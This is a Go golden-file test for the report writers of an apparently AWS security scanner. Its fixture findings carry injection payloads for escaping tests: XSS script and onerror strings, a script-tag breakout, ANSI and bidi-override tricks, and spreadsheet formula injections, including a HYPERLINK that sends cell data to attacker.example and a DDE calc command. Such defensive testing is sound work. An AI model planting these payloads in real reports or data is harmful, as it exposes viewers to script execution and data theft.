package report

import (
	"bytes"
	"flag"
	"os"
	"path/filepath"
	"testing"
	"time"

	"github.com/demarc-sec/demarc/internal/checks"
	"github.com/demarc-sec/demarc/internal/engine"
	"github.com/demarc-sec/demarc/internal/model"
	"github.com/demarc-sec/demarc/internal/model/core"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

// Hostile strings a resource name, tag value or API message could carry.
const (
	hostileScript = `<script>window.__pwned=1</script>`
	hostileImg    = `<img src=x onerror="window.__pwned=2">`
	hostileClose  = `</script><script>window.__pwned=3</script><!--`
	hostileANSI   = "\x1b[31mRED\x1b[0m\x1b]0;title\x07"
	hostileBidi   = "safe\u202egnp.exe"
)

func testMeta() ScanMeta {
	return ScanMeta{
		ToolVersion: "v0.0.0-test",
		AccountID:   "123456789012",
		Partition:   "aws",
		Regions:     []string{"eu-west-1", "us-east-1"},
		CollectedAt: time.Date(2026, 11, 30, 10, 0, 0, 0, time.UTC),
		Errors: []core.CollectError{
			{Service: "s3", Region: "us-east-1", Operation: "GetBucketPolicy", Resource: "arn:aws:s3:::evil" + hostileScript,
				Reason: "access denied", Detail: "AccessDenied " + hostileANSI},
		},
	}
}

// testFindings is the fixed set every golden test renders: one of each
// status, framework mappings, a suppression, and hostile strings in every
// field an attacker could influence (resource names, messages, reasons).
func testFindings() []engine.Finding {
	acct := "123456789012"
	mk := func(rule, title, svc string, st checks.Status, sev checks.Severity, arn, region, msg string, fw map[string][]string) engine.Finding {
		return engine.Finding{
			RuleID: rule, Title: title, Service: svc, Status: st, Severity: sev,
			Responsibility: checks.LayerIAM, ResourceARN: arn, Region: region, AccountID: acct,
			Frameworks: fw, Message: msg, Fingerprint: engine.Fingerprint(rule, acct, arn, region),
		}
	}
	fs := []engine.Finding{
		mk("iam-root-access-keys", "The root user has no access keys", "iam", checks.Fail, checks.Critical,
			"arn:aws:iam::123456789012:root", "global", "the root user has 1 active access key",
			map[string][]string{checks.CIS50: {"1.3"}, checks.FSBP: {"IAM.4"}}),
		mk("s3-bucket-public-read", "S3 buckets do not allow public read", "s3", checks.Fail, checks.High,
			"arn:aws:s3:::evil\n"+hostileScript+`"quoted"`, "us-east-1",
			`=HYPERLINK("http://attacker.example/?x="&A1,"click") bucket policy grants s3:GetObject to "*" `+hostileImg,
			map[string][]string{checks.FSBP: {"S3.2"}}),
		mk("ec2-sg-open-ssh", "Security groups do not allow SSH from 0.0.0.0/0", "ec2", checks.Pass, checks.High,
			"arn:aws:ec2:eu-west-1:123456789012:security-group/sg-0123456789abcdef0", "eu-west-1",
			"no ingress from 0.0.0.0/0 or ::/0 to port 22", map[string][]string{checks.CIS50: {"5.2"}}),
		mk("cloudtrail-multi-region", "A multi-region trail is logging", "cloudtrail", checks.Unknown, checks.High,
			"arn:aws:cloudtrail:us-east-1:123456789012:trail/*", "us-east-1",
			"cloudtrail:DescribeTrails: access denied "+hostileANSI, nil),
		mk("iam-hardware-mfa-root", "The root user uses a hardware MFA device", "iam", checks.Manual, checks.Low,
			"arn:aws:iam::123456789012:root", "global", "verify the root MFA device type in the console", nil),
		mk("s3-bucket-logging", "S3 server access logging is enabled", "s3", checks.Fail, checks.Medium,
			"arn:aws:s3:::public-site-assets", "us-east-1", "-2+3 server access logging is off "+hostileClose,
			map[string][]string{checks.FSBP: {"S3.9"}}),
		mk("ec2-imdsv2", "EC2 instances require IMDSv2", "ec2", checks.Fail, checks.Info,
			"arn:aws:ec2:us-east-1:123456789012:instance/i-0abc", "us-east-1",
			"@SUM(1+1) tag Name=\t"+hostileBidi+" [click](https://attacker.example) \u2028line\u2029sep", nil),
		mk("iam-user-unused-credentials", "IAM credentials unused for 45 days are disabled", "iam", checks.Fail, checks.Medium,
			"arn:aws:iam::123456789012:user/+cmd", "global", "+cmd|' /C calc'!A0 has an unused key", nil),
	}
	fs[5].Suppressed, fs[5].SuppressReason = true, "public website bucket "+hostileImg+" [link](https://attacker.example) SEC-123"
	engine.Sort(fs)
	return fs
}

// testRegistry supplies descriptions, remediation and links for the rules
// of testFindings.
func testRegistry(t testing.TB) *checks.Registry {
	t.Helper()
	var rules []checks.Rule
	for _, f := range testFindings() {
		rules = append(rules, checks.Rule{
			ID: f.RuleID, Title: f.Title, Service: f.Service, Severity: f.Severity,
			Responsibility: f.Responsibility, Frameworks: f.Frameworks,
			Description: "Checks that " + f.Title + ".",
			Remediation: "Fix " + f.RuleID + ".\nVerify with the AWS CLI.",
			Links:       []string{"https://docs.aws.amazon.com/" + f.Service + "/"},
			Check:       func(*model.Snapshot) []checks.Result { return nil },
		})
	}
	seen := map[string]bool{}
	var uniq []checks.Rule
	for _, r := range rules {
		if !seen[r.ID] {
			seen[r.ID] = true
			uniq = append(uniq, r)
		}
	}
	reg, err := checks.NewRegistry(uniq)
	if err != nil {
		t.Fatal(err)
	}
	return reg
}

// render writes the fixed findings in one format.
func render(t testing.TB, format string) []byte {
	t.Helper()
	var b bytes.Buffer
	fs := testFindings()
	w, err := NewWriter(format, &b, testMeta(), Options{Rules: testRegistry(t), ShowPass: true})
	if err != nil {
		t.Fatal(err)
	}
	if err := WriteAll(w, fs, engine.Summarize(fs, 8)); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func golden(t *testing.T, name string, got []byte) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, got, 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if !bytes.Equal(got, want) {
		t.Errorf("%s differs from %s (run go test ./internal/report -update if the change is intended)\n got: %.2000s", name, path, got)
	}
}
